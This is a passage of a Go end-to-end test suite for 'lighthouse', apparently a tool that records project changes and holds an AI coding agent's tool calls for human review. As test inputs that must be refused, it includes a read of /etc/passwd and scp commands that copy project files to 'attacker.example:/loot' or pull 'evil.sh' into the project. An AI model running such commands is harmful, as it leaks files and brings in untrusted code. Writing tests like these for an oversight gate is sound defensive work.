package e2e

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// wantIn fails the test unless s contains every one of wants.
func wantIn(t *testing.T, what, s string, wants ...string) {
	t.Helper()
	for _, w := range wants {
		if !strings.Contains(s, w) {
			t.Fatalf("%s lacks %q:\n%s", what, w, s)
		}
	}
}

// TestCLIPathsFromASubdirectory: a user in ~/shop/internal/cart types paths
// relative to where they are; absolute paths inside the project work,
// paths outside it are refused naming the root (exit 2); a restore that
// matches nothing fails; put, rm and mv change the disk with the log, so
// the watcher does not undo them; snapshot and restore name the same point;
// empty answers say so; outside any project the error says what to do.
func TestCLIPathsFromASubdirectory(t *testing.T) {
	t.Parallel()
	bin := quotedBin
	project := filepath.Join(t.TempDir(), "shop")
	writeProjectFile(t, project, "internal/cart/cart.go", "package cart\n")
	writeProjectFile(t, project, "main.go", "package main\n")
	g := upProject(t, bin, project)
	cart := filepath.Join(g.project, "internal", "cart")

	// Reads: relative to the working directory, or absolute inside.
	for _, arg := range []string{"cart.go", filepath.Join(cart, "cart.go"), "../cart/./cart.go"} {
		if out, _ := g.runAs(cart, nil, 0, "cat", arg); out != "package cart\n" {
			t.Fatalf("cat %s in internal/cart = %q", arg, out)
		}
	}
	if out, _ := g.runAs(cart, nil, 0, "show", "../../main.go"); out != "package main\n" {
		t.Fatalf("show ../../main.go = %q", out)
	}
	out, _ := g.runAs(cart, nil, 0, "tree", ".")
	if !strings.Contains(out, "internal/cart/cart.go") || strings.Contains(out, "main.go") {
		t.Fatalf("tree . in internal/cart:\n%s", out)
	}
	// A path glob of grep is relative too; a name glob matches anywhere.
	if out, _ := g.runAs(cart, nil, 0, "grep", "package", "--glob", "../cart/*.go"); out != "internal/cart/cart.go:1:package cart\n" {
		t.Fatalf("grep --glob ../cart/*.go in internal/cart = %q", out)
	}
	if out, _ := g.runAs(cart, nil, 0, "grep", "package", "--glob", "*.go"); !strings.Contains(out, "main.go:1:package main") {
		t.Fatalf("grep --glob *.go in internal/cart = %q", out)
	}
	// Outside the project: exit 2, the path and the root named.
	for _, arg := range []string{"/etc/passwd", "../../../blog/index.js", filepath.Join(filepath.Dir(g.project), "other", "x.go")} {
		_, errOut := g.runAs(cart, nil, 2, "cat", arg)
		wantIn(t, "cat "+arg, errOut, arg+" is outside the project "+g.project, "Usage: lighthouse cat PATH")
	}
	_, errOut := g.runAs(cart, nil, 2, "put", "/abs.txt", "/dev/null")
	wantIn(t, "put /abs.txt", errOut, "/abs.txt is outside the project "+g.project)

	// Snapshot and restore name the same point.
	snap, _ := g.runAs(cart, nil, 0, "snapshot", "before-refactor")
	var point int
	if _, err := fmt.Sscanf(snap, "snapshot before-refactor at @%d", &point); err != nil {
		t.Fatalf("snapshot printed %q", snap)
	}
	if out, errOut := g.runAs(cart, nil, 0, "diff", "before-refactor"); out != "" || !strings.Contains(errOut, "no changes between before-refactor and now") {
		t.Fatalf("diff without changes: stdout %q stderr %q", out, errOut)
	}
	// An edit on disk, recorded by the watcher, then restored from the
	// subdirectory by a relative path.
	writeProjectFile(t, g.project, "internal/cart/cart.go", "package cart // edited\n")
	eventually(t, "the watcher records the edit", func() error {
		if out, _ := g.runAs(cart, nil, 0, "cat", "cart.go"); !strings.Contains(out, "edited") {
			return fmt.Errorf("not yet")
		}
		return nil
	})
	_, errOut = g.runAs(cart, nil, 0, "restore", "before-refactor", "cart.go")
	wantIn(t, "restore", errOut, "restored 1 file and deleted 0 as of @"+fmt.Sprint(point), "on disk: wrote 1 file,")
	if b, _ := os.ReadFile(filepath.Join(cart, "cart.go")); string(b) != "package cart\n" {
		t.Fatalf("cart.go on disk after the restore: %q", b)
	}
	// A restore matching nothing is an error, not "restored 0 files".
	_, errOut = g.runAs(cart, nil, 1, "restore", "before-refactor", "nosuch/")
	wantIn(t, "restore nosuch/", errOut, "restore_no_match", "internal/cart/nosuch", "/v1/restore")
	// put, rm and mv: the log and the disk, and the watcher keeps them.
	cmdOut, _ := g.runAs(cart, nil, 0, "put", "new.txt", writeProjectFile(t, t.TempDir(), "src.txt", "fresh\n"))
	seq := strings.TrimSpace(cmdOut)
	if b, err := os.ReadFile(filepath.Join(cart, "new.txt")); err != nil || string(b) != "fresh\n" {
		t.Fatalf("put did not write the disk: %q %v", b, err)
	}
	mvOut, _ := g.runAs(cart, nil, 0, "mv", "new.txt", "../moved.txt")
	if _, err := os.Stat(filepath.Join(g.project, "internal", "moved.txt")); err != nil {
		t.Fatalf("mv did not move on disk: %v", err)
	}
	// A move is one change set of two events; a restore to the first (a
	// seq inside it) goes back to the edge before it, and says so.
	var mvSeq uint64
	fmt.Sscan(mvOut, &mvSeq)
	_, errOut = g.runAs(cart, nil, 1, "restore", fmt.Sprint(mvSeq-1), "nosuch/")
	wantIn(t, "restore inside the move's change set", errOut, "restore_no_match",
		fmt.Sprintf("at @%d (@%d is inside a change set; a restore goes back to the edge before it)", mvSeq-2, mvSeq-1))
	g.runAs(cart, nil, 0, "rm", "../moved.txt")
	if _, err := os.Stat(filepath.Join(g.project, "internal", "moved.txt")); !os.IsNotExist(err) {
		t.Fatalf("rm left the file on disk: %v", err)
	}
	// Let the watcher look again: it must record nothing of its own.
	writeProjectFile(t, g.project, "marker.txt", "x\n")
	eventually(t, "the watcher records the marker", func() error {
		if out, _ := g.runAs(cart, nil, 0, "log", "--path", "../../marker.txt"); !strings.Contains(out, "marker.txt") {
			return fmt.Errorf("not yet")
		}
		return nil
	})
	time.Sleep(500 * time.Millisecond)
	logOut, _ := g.runAs(cart, nil, 0, "log", "--after", seq, "--type", "file.", "--limit", "50")
	for _, l := range strings.Split(logOut, "\n") {
		if f := strings.Fields(l); len(f) >= 6 && f[3] == "lighthouse-watcher" && strings.HasPrefix(f[5], "internal/") {
			t.Fatalf("the watcher undid put/mv/rm:\n%s", logOut)
		}
	}

	// log shows the newest events first page (walkthrough: it showed the
	// oldest), then the page before with --until.
	newest, older := g.runAs(cart, nil, 0, "log", "--type", "file.", "--limit", "1")
	if !strings.Contains(newest, "marker.txt") || !strings.Contains(older, "(older: --until ") {
		t.Fatalf("log --limit 1: want the marker, the newest file event, and a pointer to older ones:\n%s%s", newest, older)
	}
	until := strings.TrimSuffix(strings.TrimPrefix(strings.TrimSpace(older), "(older: --until "), ")")
	if before, _ := g.runAs(cart, nil, 0, "log", "--type", "file.", "--limit", "1", "--until", until); strings.Contains(before, "marker.txt") || !strings.Contains(before, "file.") {
		t.Fatalf("log --until %s: want the file event before the marker:\n%s", until, before)
	}

	// Empty answers say so; --json stays machine-readable.
	_, errOut = g.runAs(cart, nil, 0, "msg", "inbox", "--unread")
	wantIn(t, "empty inbox", errOut, "no unread messages")
	var inbox struct {
		Messages []any `json:"messages"`
	}
	g.jsonOf(cart, nil, &inbox, "msg", "inbox", "--json")

	// Outside any project: what to do, no default port, no token file.
	elsewhere := t.TempDir()
	for _, env := range [][]string{nil, {"LIGHTHOUSE_TOKEN=lh_x"}} {
		_, errOut = g.runAs(elsewhere, env, 1, "status")
		real, _ := filepath.EvalSymlinks(elsewhere)
		wantIn(t, "status outside a project", errOut, real+" is not inside a guarded project", "lighthouse up --project DIR", "LIGHTHOUSE_DATA / LIGHTHOUSE_URL")
		if strings.Contains(errOut, "8765") || strings.Contains(errOut, "admin.token") {
			t.Fatalf("status outside a project: %s", errOut)
		}
	}
	// Every HTTP error names the URL it reached.
	_, errOut = g.runAs(project, []string{"LIGHTHOUSE_TOKEN=lh_wrong"}, 1, "status")
	wantIn(t, "status with a bad token", errOut, "401 unauthenticated", "http://127.0.0.1:")
}

// TestCLIUsageAndHelp: usage errors print what was expected and the usage
// line (exit 2), durations say what they take, flags are --name, unknown
// subcommands get a suggestion, and help lists flags as --name TYPE.
func TestCLIUsageAndHelp(t *testing.T) {
	t.Parallel()
	g := &guarded{t: t, bin: filepath.Join(binDir, "lighthouse"), state: t.TempDir(), userHome: t.TempDir()}
	dir := t.TempDir()
	for _, c := range []struct {
		args  []string
		wants []string
	}{
		{[]string{"review", "approve"}, []string{"review approve: want exactly 1 argument, got none", "Usage: lighthouse review approve ID"}},
		{[]string{"snapshot"}, []string{"want exactly 1 argument", "Usage: lighthouse snapshot NAME"}},
		{[]string{"restore"}, []string{"want at least 1 argument", "Usage: lighthouse restore POINT"}},
		{[]string{"diff"}, []string{"want at least 1 argument", "Usage: lighthouse diff FROM"}},
		{[]string{"cat"}, []string{"want exactly 1 argument", "Usage: lighthouse cat PATH"}},
		{[]string{"grep"}, []string{"want at least 1 argument", "Usage: lighthouse grep PATTERN"}},
		{[]string{"lease", "add"}, []string{"want at least 1 argument", "Usage: lighthouse lease add GLOB"}},
		{[]string{"msg", "inbox", "--wait", "5"}, []string{"--wait takes a duration such as 5s"}},
		{[]string{"review", "aprove"}, []string{`unknown command "aprove"`, "did you mean approve?"}},
		{[]string{"revew"}, []string{"did you mean review?"}},
		{[]string{"log", "--agnet", "claude"}, []string{"unknown flag --agnet (did you mean --agent?)"}},
	} {
		_, errOut := g.runAs(dir, nil, 2, c.args...)
		wantIn(t, "lighthouse "+strings.Join(c.args, " "), errOut, c.wants...)
		if strings.Contains(errOut, "parse error") || strings.Contains(errOut, " -agnet") {
			t.Fatalf("lighthouse %v: %s", c.args, errOut)
		}
	}
	for _, args := range [][]string{{"put", "--help"}, {"help", "cat"}, {"msg", "inbox", "--help"}, {"up", "--help"}} {
		out, _ := g.runAs(dir, nil, 0, args...)
		if strings.Contains(out, "-data lighthouse up") || strings.Contains(out, "\n  -url") {
			t.Fatalf("lighthouse %v: garbled flags:\n%s", args, out)
		}
		wantIn(t, "lighthouse "+strings.Join(args, " "), out, "--data STRING")
	}
	out, _ := g.runAs(dir, nil, 0, "msg", "inbox", "--help")
	wantIn(t, "msg inbox --help", out, "--wait DURATION", "--unread ")
	out, _ = g.runAs(dir, nil, 0, "put", "--help")
	wantIn(t, "put --help", out, "--log-only", "on disk")
}

// TestCLIShortIDsPatternsAndNames: the 8-character ids lists print work for
// messages and leases as for reviews; --for-pattern shows the exact pattern
// it learns before and after; a removed agent's name is refused as retired.
func TestCLIShortIDsPatternsAndNames(t *testing.T) {
	t.Parallel()
	g, project, pre := claudeShop(t)
	agentEnv := []string{"PATH=/usr/bin:/bin", "HOME=" + t.TempDir(), "LIGHTHOUSE_HOOK_WAIT=60"}
	done := claudeHookAsync(t, pre, agentEnv, map[string]any{"session_id": "s1", "hook_event_name": "PreToolUse", "cwd": g.project,
		"tool_name": "Bash", "tool_input": map[string]any{"command": "npx cowsay hi"}, "tool_use_id": "toolu_npx"})
	r := g.waitPending(project, "npx cowsay hi")
	var list struct {
		Reviews []struct {
			ID    string `json:"id"`
			Shape string `json:"shape"`
		} `json:"reviews"`
	}
	g.jsonOf(project, nil, &list, "review", "list", "--json")
	shape := ""
	for _, l := range list.Reviews {
		if l.ID == r.ID {
			shape = l.Shape
		}
	}
	if !strings.HasPrefix(shape, "Bash") || !strings.Contains(shape, "npx") {
		t.Fatalf("review list --json: shape %q", shape)
	}
	show, _ := g.runAs(project, nil, 0, "review", "show", r.ID[:8])
	wantIn(t, "review show", show, "pattern", shape)
	// A builder cannot list reviews, so cannot resolve a prefix: it is told
	// so (walkthrough: it was told the roles that may list them).
	builderOut, _ := g.runAs(project, nil, 0, "agent", "add", "bob", "--role", "builder")
	builderTok := strings.TrimSpace(builderOut[strings.LastIndex(strings.TrimSpace(builderOut), "\n")+1:])
	_, denied := g.runAs(project, []string{"LIGHTHOUSE_TOKEN=" + builderTok}, 1, "review", "approve", r.ID[:8], "-m", "ok")
	wantIn(t, "review approve by a builder", denied, "may not list reviews", "give the full review id")
	approve, _ := g.runAs(project, nil, 0, "review", "approve", r.ID[:8], "-m", "ok", "--for-pattern")
	wantIn(t, "review approve --for-pattern", approve, "for the pattern "+shape, "allowed")
	select {
	case res := <-done:
		if res.code != 0 {
			t.Fatalf("approved hook: exit %d %s", res.code, res.stderr)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("the hook did not return after the approval")
	}
	learned, _ := g.runAs(project, nil, 0, "learned", "list")
	wantIn(t, "learned list", learned, "PATTERN", shape)

	// Messages: read and ack by the prefix the inbox shows.
	id, _ := g.runAs(project, nil, 0, "msg", "send", "--to", "admin", "-s", "hello", "-m", "body", "--ack")
	id = strings.TrimSpace(id)
	out, _ := g.runAs(project, nil, 0, "msg", "read", id[:8])
	wantIn(t, "msg read", out, "marked "+id+" read")
	out, _ = g.runAs(project, nil, 0, "msg", "ack", id[:8])
	wantIn(t, "msg ack", out, "acknowledged "+id)
	out, _ = g.runAs(project, nil, 0, "msg", "thread", id[:8])
	wantIn(t, "msg thread", out, "hello")
	_, errOut := g.runAs(project, nil, 1, "msg", "ack", "ffffffff")
	wantIn(t, "msg ack unknown", errOut, `no message sent to you with an id starting "ffffffff"`)

	// Leases: released by prefix; globs relative to the working directory.
	sub := filepath.Join(g.project, "src")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	leaseID, leaseErr := g.runAs(sub, nil, 0, "lease", "add", "cart/**", "-m", "reworking")
	leaseID = strings.TrimSpace(leaseID)
	wantIn(t, "lease add", leaseErr, "on src/cart/**")
	out, _ = g.runAs(sub, nil, 0, "lease", "release", leaseID[:8])
	wantIn(t, "lease release", out, "released "+leaseID)

	// A removed agent's name is retired, not "exists".
	g.run(project, 0, "agent", "add", "claude-2", "--role", "builder")
	g.run(project, 0, "agent", "remove", "claude-2")
	_, errOut = g.runAs(project, nil, 1, "agent", "add", "claude-2", "--role", "builder")
	wantIn(t, "re-adding a removed name", errOut, "agent_name_retired", "removed", "never given out again")
	_, errOut = g.runAs(project, nil, 1, "agent", "add", "claude", "--role", "builder")
	wantIn(t, "adding a present name", errOut, "agent_exists")
}

// TestCLINeverGuessesAnAddress: with a data directory that holds no
// server address (its system is not running, or a start failed and removed
// it), the CLI says so instead of sending the project's admin token to the
// default ports, where another project's writer, or anything, may listen.
func TestCLINeverGuessesAnAddress(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	if err := os.WriteFile(filepath.Join(data, "admin.token"), []byte("lh_not_for_anyone_else\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	// Whatever listens on the default ports must hear nothing (when this
	// test can take them; another test's system may hold them).
	var heard atomic.Int32
	for _, addr := range []string{"127.0.0.1:8765", "127.0.0.1:8766"} {
		if ln, err := net.Listen("tcp", addr); err == nil {
			srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { heard.Add(1) })}
			go srv.Serve(ln)
			t.Cleanup(func() { srv.Close() })
		}
	}
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"agent", "list", "--data", data}, "no writer address in " + filepath.Join(data, "writer.addr")},
		{[]string{"put", "--data", data, "--log-only", "x.txt"}, "no writer address in " + filepath.Join(data, "writer.addr")},
		{[]string{"tree", "--data", data}, "address in " + data},
		{[]string{"watch", t.TempDir(), "--data", data}, "no writer address in " + filepath.Join(data, "writer.addr")},
	} {
		cmd := exec.Command(filepath.Join(binDir, "lighthouse"), c.args...)
		for _, kv := range os.Environ() {
			if !strings.HasPrefix(kv, "LIGHTHOUSE_") && !strings.HasPrefix(kv, "CLAUDECODE=") {
				cmd.Env = append(cmd.Env, kv)
			}
		}
		cmd.Stdin = strings.NewReader("x")
		out, err := cmd.CombinedOutput()
		if err == nil || !strings.Contains(string(out), c.want) || !strings.Contains(string(out), "running") {
			t.Errorf("lighthouse %s: %v\n%s\nwant an error naming %q", strings.Join(c.args, " "), err, out, c.want)
		}
	}
	if n := heard.Load(); n > 0 {
		t.Errorf("the default ports got %d requests", n)
	}
}

// TestOwnIdentities: the identities the writer made for itself cannot be
// removed (removing the watcher's stopped every recording and then the
// writer's start), and rotating one writes its new token where the
// processes using it read it.
func TestOwnIdentities(t *testing.T) {
	t.Parallel()
	g, project := upShop(t)
	for _, name := range []string{"admin", "lighthouse-service", "lighthouse-watcher"} {
		out := g.run(project, 1, "agent", "remove", name)
		wantIn(t, "agent remove "+name, out, "agent_protected", "belongs to Lighthouse and cannot be removed")
	}
	for name, file := range map[string]string{"lighthouse-service": "service.token", "lighthouse-watcher": "watcher.token"} {
		path := filepath.Join(g.data, file)
		before, _ := os.ReadFile(path)
		out := g.run(project, 0, "agent", "rotate", name)
		after, _ := os.ReadFile(path)
		if string(after) == string(before) || !strings.Contains(out, strings.TrimSpace(string(after))) || !strings.Contains(out, "read it again") {
			t.Errorf("agent rotate %s: %s unchanged or not the token printed:\n%s", name, path, out)
		}
	}
	// The running processes follow the new tokens without a restart: the
	// watcher records a change on disk, the reader fetches its content
	// from the writer, and a restore goes through the watcher.
	g.run(project, 0, "snapshot", "rotated")
	writeProjectFile(t, project, "after-rotation.txt", "recorded\n")
	g.waitCat(project, "after-rotation.txt", "recorded\n")
	g.run(project, 0, "restore", "rotated")
	if _, err := os.Stat(filepath.Join(project, "after-rotation.txt")); !os.IsNotExist(err) {
		t.Errorf("after-rotation.txt after the restore: %v", err)
	}
}

// TestObserversOnlyRead: an observer's token reads, and everything that
// appends is refused (403), whichever command it goes through (messages,
// annotations, leases and sessions took it).
func TestObserversOnlyRead(t *testing.T) {
	t.Parallel()
	g, project := upShop(t)
	lines := strings.Split(strings.TrimSpace(g.run(project, 0, "agent", "add", "watcher-person", "--role", "observer")), "\n")
	token := strings.TrimSpace(lines[len(lines)-1])
	head := g.run(project, 0, "log", "--json")
	as := func(want int, args ...string) string {
		t.Helper()
		cmd := exec.Command(g.bin, args...)
		cmd.Dir, cmd.Env = project, g.env("LIGHTHOUSE_TOKEN="+token)
		cmd.Stdin = strings.NewReader("x")
		out, err := cmd.CombinedOutput()
		if code := exitCode(err); code != want {
			t.Errorf("lighthouse %s as an observer: exit %d, want %d\n%s", strings.Join(args, " "), code, want, out)
		}
		return string(out)
	}
	if out := as(0, "cat", "main.go"); out != "package main\n" {
		t.Errorf("an observer's cat main.go = %q", out)
	}
	for _, args := range [][]string{
		{"msg", "send", "--to", "admin", "-s", "hi"},
		{"annotate", "main.go:1", "a note"},
		{"lease", "add", "main.go"},
		{"snapshot", "mine"},
		{"put", "--log-only", "x.txt"},
	} {
		if out := as(1, args...); !strings.Contains(out, "forbidden") {
			t.Errorf("lighthouse %s as an observer: %s", strings.Join(args, " "), out)
		}
	}
	if now := g.run(project, 0, "log", "--json"); now != head {
		t.Errorf("an observer's commands appended:\nbefore %s\nafter %s", head, now)
	}
	// So an observer cannot be asked for an ack it could never give;
	// a message to it without one is sent.
	for _, to := range []string{"watcher-person", "role:observer"} {
		wantIn(t, "msg send --ack to "+to, g.run(project, 1, "msg", "send", "--to", to, "--ack", "-s", "sign this"),
			"ack_impossible", "watcher-person is an observer")
	}
	g.run(project, 0, "msg", "send", "--to", "watcher-person", "-s", "for your information")
}

// TestRestoreLeavesIgnoredFilesAlone: a restore never touches a file on disk
// that is ignored, even at a path the log once had (a walkthrough's restore
// deleted the git-ignored .claude/settings.local.json, and with it the
// gate's hooks): it is neither removed nor overwritten, and the restore
// says it was left alone.
func TestRestoreLeavesIgnoredFilesAlone(t *testing.T) {
	t.Parallel()
	g, project := upShop(t)
	logged := func(p string) string { // the log's content now, "" if none
		cmd := exec.Command(g.bin, "cat", p)
		cmd.Dir, cmd.Env = project, g.env()
		out, _ := cmd.Output()
		return string(out)
	}
	g.run(project, 0, "snapshot", "empty")
	// Recorded while not ignored, then ignored and changed on disk.
	writeProjectFile(t, project, "local.cfg", "recorded\n")
	writeProjectFile(t, project, "kept.cfg", "recorded\n")
	eventually(t, "the watcher records local.cfg and kept.cfg", func() error {
		for _, p := range []string{"local.cfg", "kept.cfg"} {
			if logged(p) != "recorded\n" {
				return fmt.Errorf("%s not yet", p)
			}
		}
		return nil
	})
	g.run(project, 0, "snapshot", "recorded")
	writeProjectFile(t, project, ".gitignore", "*.cfg\n")
	writeProjectFile(t, project, "local.cfg", "a person's own settings\n")
	eventually(t, "the watcher records .gitignore", func() error {
		if logged(".gitignore") != "*.cfg\n" {
			return fmt.Errorf("not yet")
		}
		return nil
	})
	g.run(project, 0, "snapshot", "ignoring")
	for _, c := range []struct{ point, local, kept string }{
		{"recorded", "a person's own settings\n", "recorded\n"}, // would be overwritten
		{"empty", "a person's own settings\n", "recorded\n"},    // would be removed
	} {
		errOut := g.run(project, 0, "restore", c.point)
		wantIn(t, "restore "+c.point, errOut, "left alone, ignored on disk: ", "local.cfg")
		for p, want := range map[string]string{"local.cfg": c.local, "kept.cfg": c.kept} {
			if b, err := os.ReadFile(filepath.Join(project, p)); err != nil || string(b) != want {
				t.Fatalf("after restore %s, %s on disk = %q, %v; want %q", c.point, p, b, err, want)
			}
		}
		// The restore's own .gitignore (none at either point) was still
		// restored: ignoring is judged by the rules before the restore.
		if _, err := os.Stat(filepath.Join(project, ".gitignore")); !os.IsNotExist(err) {
			t.Fatalf("after restore %s, .gitignore: %v", c.point, err)
		}
		// Without the .gitignore the watcher records local.cfg as it is;
		// undoing the restore brings the .gitignore back and must not
		// remove local.cfg, which the log did not have at that point.
		eventually(t, "the watcher records local.cfg once it is not ignored", func() error {
			if logged("local.cfg") != "a person's own settings\n" {
				return fmt.Errorf("not yet")
			}
			return nil
		})
		errOut = g.run(project, 0, "restore", "ignoring")
		wantIn(t, "restore ignoring after restore "+c.point, errOut, "left alone, ignored on disk: ", "local.cfg")
		if b, err := os.ReadFile(filepath.Join(project, "local.cfg")); err != nil || string(b) != c.local {
			t.Fatalf("after undoing restore %s, local.cfg on disk = %q, %v", c.point, b, err)
		}
		if b, err := os.ReadFile(filepath.Join(project, ".gitignore")); err != nil || string(b) != "*.cfg\n" {
			t.Fatalf("after undoing restore %s, .gitignore on disk = %q, %v", c.point, b, err)
		}
	}
}

// TestUpKilledStopsItsProcesses: a `lighthouse up` killed with SIGKILL
// cannot stop its processes, so the kernel does (SIGTERM when their parent
// dies): none is left holding the data directory's locks and ports, and
// the next `up` on the same project starts and serves what was recorded.
func TestUpKilledStopsItsProcesses(t *testing.T) {
	t.Parallel()
	g, project := upShop(t)
	children := func() []string { // processes started with our data directory
		var pids []string
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			if cmdline, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline")); err == nil && strings.Contains(string(cmdline), g.data) {
				pids = append(pids, e.Name())
			}
		}
		return pids
	}
	if len(children()) < 3 {
		t.Fatalf("up runs %v with %s; want the writer, the reader and the watcher", children(), g.data)
	}
	if err := g.up.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the processes of a killed up stop", func() error {
		if left := children(); len(left) > 0 {
			return fmt.Errorf("still running: %v", left)
		}
		return nil
	})
	// Their addresses went with them: the CLI sends the token nowhere.
	out := g.run(project, 1, "agent", "list")
	wantIn(t, "agent list after up was killed", out, "no writer address in "+filepath.Join(g.data, "writer.addr"))
	again := startUp(t, g.bin, project, g.state, "--no-mount", "--writer-addr", "127.0.0.1:0", "--reader-addr", "127.0.0.1:0", "--bus-addr", "127.0.0.1:0")
	if out := again.run(project, 0, "cat", "main.go"); out != "package main\n" {
		t.Fatalf("cat main.go after up was killed and started again = %q", out)
	}
	// Started again at once, while the killed one's processes are still
	// stopping: it waits for them to let go of the data directory.
	if err := again.up.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	third := startUp(t, g.bin, project, g.state, "--no-mount", "--writer-addr", "127.0.0.1:0", "--reader-addr", "127.0.0.1:0", "--bus-addr", "127.0.0.1:0")
	if out := third.run(project, 0, "cat", "main.go"); out != "package main\n" {
		t.Fatalf("cat main.go after up was killed and started again at once = %q", out)
	}
}

// TestListsPrintJSON: the lists whose usage offers --json take it and print
// the reader's answer with every field (lease list and sessions refused the
// flag; annotations --json dropped created_seq and content_hash).
func TestListsPrintJSON(t *testing.T) {
	t.Parallel()
	g, project := upShop(t)
	g.run(project, 0, "lease", "add", "main.go", "-m", "refactor")
	g.run(project, 0, "annotate", "main.go:1", "a note")
	for _, c := range []struct {
		args []string
		keys []string
	}{
		{[]string{"lease", "list", "--json"}, []string{"leases", "holder", "expires_at", "refactor"}},
		{[]string{"sessions", "--json"}, []string{"sessions"}},
		{[]string{"annotations", "--json"}, []string{"annotations", "created_seq", "content_hash", "a note"}},
	} {
		out := g.run(project, 0, c.args...)
		var v any
		if err := json.Unmarshal([]byte(out), &v); err != nil {
			t.Errorf("lighthouse %s: not JSON (%v):\n%s", strings.Join(c.args, " "), err, out)
			continue
		}
		wantIn(t, "lighthouse "+strings.Join(c.args, " "), out, c.keys...)
	}
}

// TestCLISaysWhatItDid: mv and annotate --resolve say what they did (they
// printed a bare sequence, or nothing), and tree's paths align left.
func TestCLISaysWhatItDid(t *testing.T) {
	t.Parallel()
	g, project := upShop(t, "internal/cart/cart.go", "package cart\n")
	if _, errOut := g.runAs(project, nil, 0, "mv", "main.go", "app.go"); !strings.Contains(errOut, "moved main.go to app.go") {
		t.Errorf("mv said %q", errOut)
	}
	id, _ := g.runAs(project, nil, 0, "annotate", "app.go:1", "a note")
	if _, errOut := g.runAs(project, nil, 0, "annotate", "--resolve", strings.TrimSpace(id)); !strings.Contains(errOut, "resolved annotation "+strings.TrimSpace(id)[:8]) {
		t.Errorf("annotate --resolve said %q", errOut)
	}
	out, _ := g.runAs(project, nil, 0, "tree")
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 2 || !strings.HasSuffix(lines[0], " app.go") || !strings.HasSuffix(lines[1], " internal/cart/cart.go") ||
		strings.Index(lines[0], "app.go") != strings.Index(lines[1], "internal/") {
		t.Errorf("tree's paths do not align left:\n%s", out)
	}
}

// upShop starts `lighthouse up` (upProject) on a new project holding
// main.go and the files given as path and content pairs, and returns it
// with the project's directory.
func upShop(t *testing.T, files ...string) (*guarded, string) {
	t.Helper()
	project := filepath.Join(t.TempDir(), "shop")
	writeProjectFile(t, project, "main.go", "package main\n")
	for i := 0; i+1 < len(files); i += 2 {
		writeProjectFile(t, project, files[i], files[i+1])
	}
	return upProject(t, quotedBin, project), project
}

// TestHookPostSpoolsWhileUpIsStopped: an agent's edit while `lighthouse up`
// is stopped (its address files gone with it) is spooled by the PostToolUse
// hook, which exits 0, and recorded as the agent's once up starts again
// (walkthrough: the hook failed with "no writer address", and the edit
// became the watcher's baseline, which the provenance rules trust).
func TestHookPostSpoolsWhileUpIsStopped(t *testing.T) {
	t.Parallel()
	g, project, _ := claudeShop(t)
	_, post := settingsCommands(t, project)
	if err := g.up.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	eventually(t, "up stops and its writer's address file goes", func() error {
		if _, err := os.Stat(filepath.Join(g.data, "writer.addr")); !os.IsNotExist(err) {
			return fmt.Errorf("writer.addr: %v", err)
		}
		if _, err := os.Stat(filepath.Join(g.data, "watcher.sock")); !os.IsNotExist(err) {
			return fmt.Errorf("watcher.sock: %v", err)
		}
		return nil
	})
	file := writeProjectFile(t, project, "build.sh", "echo built\n")
	agentEnv := []string{"PATH=/usr/bin:/bin", "HOME=" + t.TempDir()}
	r := claudeHook(t, post, agentEnv, map[string]any{"session_id": "s1", "hook_event_name": "PostToolUse", "cwd": g.project,
		"tool_name": "Write", "tool_use_id": "toolu_offline", "tool_input": map[string]any{"file_path": file, "content": "echo built\n"}})
	if r.code != 0 || !strings.Contains(r.stderr, "spooled") {
		t.Fatalf("hook post while up is stopped: exit %d\n%s", r.code, r.stderr)
	}
	again := startUp(t, g.bin, project, g.state, "--no-mount", "--writer-addr", "127.0.0.1:0", "--reader-addr", "127.0.0.1:0", "--bus-addr", "127.0.0.1:0")
	eventually(t, "the spooled edit is recorded as the agent's", func() error {
		cmd := exec.Command(again.bin, "log", "--path", "build.sh")
		cmd.Dir, cmd.Env = project, again.env()
		out, err := cmd.CombinedOutput()
		if err != nil || !strings.Contains(string(out), "claude") || strings.Contains(string(out), "lighthouse-watcher") {
			return fmt.Errorf("log --path build.sh: %v\n%s", err, out)
		}
		return nil
	})
}

// TestLearnedRemoteCopyKeepsItsHost: approving one scp "for this pattern"
// allows that copy again, to the same host the same way, and nothing else:
// another host, or a copy from that host into the project, still waits for
// a review (a walkthrough's learned `scp <path>` allowed them all).
func TestLearnedRemoteCopyKeepsItsHost(t *testing.T) {
	t.Parallel()
	g, project, pre := claudeShop(t)
	agentEnv := []string{"PATH=/usr/bin:/bin", "HOME=" + t.TempDir(), "LIGHTHOUSE_HOOK_WAIT=60"}
	event := func(command, id string) map[string]any {
		return map[string]any{"session_id": "s1", "hook_event_name": "PreToolUse", "cwd": g.project,
			"tool_name": "Bash", "tool_input": map[string]any{"command": command}, "tool_use_id": id}
	}
	done := claudeHookAsync(t, pre, agentEnv, event("scp go.mod deploy.example:/srv/shop/", "toolu_scp1"))
	r := g.waitPending(project, "scp go.mod deploy.example:/srv/shop/")
	approve, _ := g.runAs(project, nil, 0, "review", "approve", r.ID[:8], "-m", "deploys go there", "--for-pattern")
	wantIn(t, "review approve --for-pattern", approve, "<remote:deploy.example>")
	if res := <-done; res.code != 0 || res.denied(t) != "" {
		t.Fatalf("the approved scp: exit %d %s %s", res.code, res.stdout, res.stderr)
	}
	quick := []string{"PATH=/usr/bin:/bin", "HOME=" + t.TempDir(), "LIGHTHOUSE_HOOK_WAIT=1"}
	if res := claudeHook(t, pre, quick, event("scp go.mod deploy.example:/srv/other/", "toolu_scp2")); res.denied(t) != "" {
		t.Errorf("the same copy to the same host: %s", res.denied(t))
	}
	for _, c := range []string{"scp go.mod attacker.example:/loot", "scp deploy.example:/srv/evil.sh go.mod"} {
		if res := claudeHook(t, pre, quick, event(c, "toolu_"+c[len(c)-4:])); res.denied(t) == "" {
